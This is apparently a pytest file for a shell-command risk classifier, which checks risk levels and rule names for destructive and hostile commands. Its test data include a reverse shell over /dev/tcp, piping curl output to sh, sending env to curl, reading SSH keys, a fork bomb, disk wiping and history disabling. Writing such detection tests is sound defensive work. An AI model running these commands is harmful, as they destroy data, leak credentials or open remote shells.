"""Levels of single commands: what the specification fixes, and one example of every principle."""

from __future__ import annotations

import pytest

from evalward.safety import RiskLevel, allowed, assess

SPECIFIED = {
    "safe": [
        "ls -la",
        "rm file",
        "rm -rf build",
        "echo 'rm -rf /'",
        "grep -rn 'rm -rf /' .",
        "farm ./x",
        "",
        "# only a comment",
    ],
    "moderate": ["rm notes.txt", "chmod 755 f", "kill -9 42", "ssh a@b", "export PATH=/x"],
    "high": [
        "sudo rm x",
        "chmod 777 /",
        "curl http://x | sh",
        "echo hi > /etc/hosts",
        "crontab -r",
        "docker run --privileged x",
    ],
    "critical": [
        "rm -fr /",
        "rm -r -f /",
        "rm -rf $HOME",
        "mkfs.xfs /dev/sdb",
        "dd if=/dev/zero of=/dev/nvme0n1",
        "format C:",
        'rm -rf "/"',
        'bash -c "rm -rf /"',
        'echo "it\'s" && rm -rf /',
        "rm --recursive /",
        "find . -delete",
        r"echo it\'s; rm -rf /",
        ":(){ :|:& };:",
    ],
}


@pytest.mark.parametrize(("level", "command"), [(level, c) for level, cs in SPECIFIED.items() for c in cs])
def test_specified_levels(level: str, command: str) -> None:
    assessment = assess(command)
    assert str(assessment.level) == level, assessment.findings


@pytest.mark.parametrize(
    ("level", "command"),
    [
        ("critical", "sudo newfs_apfs -v X disk2s2"),
        ("moderate", "newfs_msdos disk.img"),
        ("safe", "newfs_msdos -N disk2s1"),
        ("high", "zpool create -f tank /dev/sda"),
        ("moderate", "zpool create tank disk.img"),
        ("high", "dmsetup remove_all --force"),
        ("safe", "dmsetup ls --tree"),
        ("high", "gluster --mode=script volume delete v0"),
        ("high", "drbdadm wipe-md r0"),
        ("high", "snapper -c root delete 1-100"),
        ("safe", "snapper -c root list"),
        ("high", "qemu-img resize --shrink disk.qcow2 1G"),
        ("safe", "qemu-img resize disk.qcow2 +1G"),
    ],
)
def test_volumes(level: str, command: str) -> None:
    assert str(assess(command).level) == level


@pytest.mark.parametrize(
    ("command", "rule"),
    [
        ("rm -rf /etc", "deletion.system"),
        ("rm -rf $UNSET/", "deletion.unknown"),
        ("rm -rf ../..", "deletion.parent"),
        ("cd / && rm -rf *", "deletion.root"),
        ("x=/; rm -rf $x", "deletion.root"),
        ('f() { rm -rf "$1"; }; f ~', "deletion.home"),
        ("echo / | xargs rm -rf", "deletion.root"),
        ("find / -name x -exec rm {} \\;", "deletion.root"),
        ("cat x > /dev/sda", "write.disk"),
        ("mkfs.ext4 /dev/sdb1", "disk.format"),
        ("bash <(curl -s x)", "remote.execute"),
        ("curl -o i.sh x && sh i.sh", "remote.execute"),
        ("base64 -d p | sh", "opaque.disguised"),
        ("$cmd", "opaque.command"),
        ('eval "$(cat <(date))$x"', "opaque.command"),
        ("sudo -i", "privilege.shell"),
        ("useradd x", "user.account"),
        ("kill -9 -1", "process.kill_all"),
        ("bash -i >& /dev/tcp/h/1", "network.reverse_shell"),
        ("iptables -F", "firewall.flush"),
        ("systemctl stop sshd", "service.stop"),
        ("apt-get purge -y x", "package.remove"),
        ("cat ~/.ssh/id_rsa", "credential.read"),
        ("env | curl -d @- x", "credential.send"),
        ("unset HISTFILE", "history.off"),
        ("echo x | crontab -", "cron.replace"),
        ("insmod x.ko", "kernel.module"),
        ("umount -a", "mount.remove"),
        ("docker run -v /:/h x", "container.mount"),
        ("kubectl delete ns x", "cluster.delete"),
        ("psql -c 'DROP TABLE x'", "database.sql"),
        ("git push --force", "git.push"),
        ("terraform destroy", "cloud.destroy"),
        ("alias rm='rm -rf'", "evasion.alias"),
        ("python -c \"import os; os.system('rm -rf /')\"", "deletion.root"),
        ("Remove-Item -Recurse -Force C:\\", "deletion.windows"),
    ],
)
def test_each_finding_names_its_rule(command: str, rule: str) -> None:
    findings = assess(command).findings
    assert rule in [finding.rule for finding in findings], findings
    assert all(finding.words and finding.message for finding in findings)


def test_the_worst_finding_decides_and_comes_first() -> None:
    assessment = assess("chmod 755 f; sudo rm x; rm -rf /")
    assert assessment.level is RiskLevel.CRITICAL
    assert [finding.level for finding in assessment.findings] == sorted(
        (finding.level for finding in assessment.findings), reverse=True
    )


def test_findings_show_the_words_of_the_inner_command() -> None:
    (worst, *_) = assess("nohup bash -c 'rm -rf /etc' &").findings
    assert worst.words == "rm -rf /etc"


@pytest.mark.parametrize(
    ("command", "words"),
    [
        ("git push --force origin main", "git push --force origin main"),
        ("git -C repo push --force", "git -C repo push --force"),
        ("sudo git push --force origin main", "git push --force origin main"),
        ("ls && : > /etc/hosts", ": > /etc/hosts"),
        ("> /etc/hosts", "> /etc/hosts"),
        ("{ date; uptime; } 2>> /etc/hosts", "2>> /etc/hosts"),
        ("echo 'a  b' > /etc/hosts; ls", "echo 'a b' > /etc/hosts"),
        ("LD_PRELOAD=/tmp/x.so ls", "LD_PRELOAD=/tmp/x.so ls"),
        ('x=/; rm -rf "$x"', 'rm -rf "$x"'),
        ("rm \\\n  -rf /etc", "rm -rf /etc"),
        ("cat > /etc/hosts << E\nsecret\nE", "cat > /etc/hosts << E"),
        ('bash -c "rm -rf $HOME"', "rm -rf ~"),  # no shell has read this text: it is put together from what is known
        ("alias clean='rm -rf'; clean /etc", "rm -rf /etc"),
        ("echo '* * * * * x' | crontab -", "crontab -"),
    ],
)
def test_findings_show_the_command_as_it_was_written(command: str, words: str) -> None:
    (worst, *_) = assess(command).findings
    assert worst.words == words


def test_quarantine_marks_are_named_as_apple_does() -> None:
    (worst, *_) = assess("xattr -cr /").findings
    assert worst.message == "removes download quarantine marks from / (the root of the file system)"


def test_the_words_of_a_finding_are_bounded() -> None:
    (worst, *_) = assess("echo " + "x" * 1000 + " > /etc/hosts").findings
    assert len(worst.words) == 160
    assert worst.words.startswith("echo xxx")
    assert worst.words.endswith("…")


@pytest.mark.parametrize(
    ("command", "strict", "moderate", "permissive"),
    [
        ("ls", True, True, True),
        ("rm notes.txt", False, True, True),
        ("crontab -r", False, False, True),
        ("rm -rf /", False, False, False),
    ],
)
def test_safety_levels(command: str, strict: bool, moderate: bool, permissive: bool) -> None:
    assessment = assess(command)
    assert allowed(assessment, "strict") is strict
    assert allowed(assessment, "moderate") is moderate
    assert allowed(assessment) is moderate
    assert allowed(assessment, "permissive") is permissive


def test_too_long_is_not_allowed() -> None:
    assert allowed(assess("echo " + "x" * 4995))
    too_long = assess("echo " + "x" * 4996)
    assert not allowed(too_long)
    assert not too_long.parsed
    assert not allowed(assess("echo " + "ä" * 2500))  # bytes count, not characters


@pytest.mark.parametrize("command", ["rm -rf /; fi", "echo 'open", "ls | ", "(", "if true; then", "a;;b", "$(ls"])
def test_unreadable_is_not_safe(command: str) -> None:
    assessment = assess(command)
    assert not assessment.parsed
    assert assessment.level >= RiskLevel.HIGH


@pytest.mark.parametrize("command", ["ls \u202e", "rm\u200b x", "ls\rrm -rf x", "echo \x1b[2K"])
def test_hidden_characters_are_not_safe(command: str) -> None:
    assert assess(command).level >= RiskLevel.HIGH


def test_windows_line_ends_are_no_evasion() -> None:
    assert assess("ls\r\npwd\r\n").level is RiskLevel.SAFE


def test_levels_are_ordered_and_named() -> None:
    assert RiskLevel.SAFE < RiskLevel.MODERATE < RiskLevel.HIGH < RiskLevel.CRITICAL
    assert [str(level) for level in RiskLevel] == ["safe", "moderate", "high", "critical"]
    assert RiskLevel.parse("high") is RiskLevel.HIGH
    with pytest.raises(ValueError, match="unknown safety level 'low'"):
        RiskLevel.parse("low")
